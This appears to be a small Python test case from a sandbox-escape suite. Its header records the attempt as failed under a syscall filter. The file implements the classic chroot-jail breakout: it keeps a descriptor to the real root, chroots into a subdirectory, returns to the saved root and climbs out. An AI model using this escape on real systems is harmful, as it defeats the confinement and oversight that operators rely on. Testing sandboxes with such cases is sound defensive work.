# word: FAIL killed by SIGSYS | Permission denied
"""The old way out: keep the root open, change the root, climb from the open one."""

import os


def word():
    root = os.open("/", os.O_RDONLY)
    os.makedirs("cell", exist_ok=True)
    os.chroot("cell")
    os.fchdir(root)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    return os.listdir("/")
